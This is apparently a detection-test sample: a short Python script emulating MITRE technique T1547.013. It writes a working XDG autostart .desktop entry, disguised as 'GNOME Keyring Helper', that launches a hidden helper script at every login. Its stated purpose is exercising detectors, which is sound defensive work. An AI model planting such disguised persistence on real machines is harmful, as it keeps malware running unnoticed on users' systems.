# technique: T1547.013
"""Persistence with an XDG autostart entry (T1547.013).

Desktop-targeting Python stealers drop a .desktop file in
~/.config/autostart so the payload starts with the user's session. The
directory is taken from $XDG_CONFIG_HOME (defaulting to ~/.config) and the
file is written with configparser, as a well-formed desktop entry.

A good detector raises a high alert: a .desktop file is written into an
autostart directory.
"""
import configparser, os

cfg = os.environ.get("XDG_CONFIG_HOME") or os.path.join(os.path.expanduser("~"), ".config")
auto = os.path.join(cfg, "autostart")
os.makedirs(auto, exist_ok=True)
cp = configparser.ConfigParser(); cp.optionxform = str
cp["Desktop Entry"] = {"Type": "Application", "Name": "GNOME Keyring Helper",
                       "Exec": "/bin/sh -c 'python3 ~/.local/share/.gk/helper.py'",
                       "Hidden": "false", "X-GNOME-Autostart-enabled": "true"}
with open(os.path.join(auto, "gnome-keyring-helper.desktop"), "w") as f:
    cp.write(f, space_around_delimiters=False)
